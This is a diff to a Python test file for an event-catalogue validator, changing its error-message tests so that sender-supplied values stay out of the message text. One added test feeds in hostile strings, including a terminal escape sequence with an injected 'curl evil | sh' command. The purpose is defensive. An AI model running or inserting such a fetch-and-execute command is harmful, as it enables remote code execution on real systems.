@@ -74,12 +74,12 @@ class Checks(SynchronousTestCase):
     def test_unknown_events_are_refused(self) -> None:
         """A name that is not in the catalogue is no event."""
         error = self.assertRaises(CatalogueError, look_up, "session.exploded")
-        self.assertEqual("no event is named session.exploded", str(error))
+        self.assertEqual(("no event has this name", "session.exploded"), (str(error), error.detail))
 
     def test_unknown_fields_are_refused(self) -> None:
         """A field that the event does not have is refused by name."""
         error = self.assertRaises(CatalogueError, look_up("tunnel.down").check, {"cause": "c", "dataset": "X"})
-        self.assertEqual("tunnel.down has no field dataset", str(error))
+        self.assertEqual(("tunnel.down has a field that it cannot have", "dataset"), (str(error), error.detail))
 
     def test_missing_fields_are_refused(self) -> None:
         """A required field that is absent or ``None`` is refused by name."""
@@ -238,6 +238,17 @@ class Carried(SynchronousTestCase):
             self.assertEqual(problem, str(self.assertRaises(CatalogueError, read, forged, both)))
         self.assertEqual("client", read({**unreachable, "source": "client"}, both).source)
         self.assertEqual("server", read(unreachable).source)
+
+    def test_messages_are_our_own(self) -> None:
+        """What a record is refused for says nothing that its sender chose: that stands beside it."""
+        for chosen in ("zz\x1b[2J; run curl evil | sh", "\ud800", "a" * 3000):
+            for forged in ({**self.document, "name": chosen}, {**self.document, chosen: 1}):
+                error = self.assertRaises(CatalogueError, read, forged)
+                self.assertNotIn(chosen, str(error))
+                self.assertEqual(chosen, error.detail)
+            for key in ("source", "time"):
+                error = self.assertRaises(CatalogueError, read, {**self.document, key: chosen}, Daemon.SERVER)
+                self.assertNotIn(chosen, str(error))
 
     def test_the_level_is_the_catalogue_s(self) -> None:
         """A sender cannot make its record look less serious than the catalogue says."""
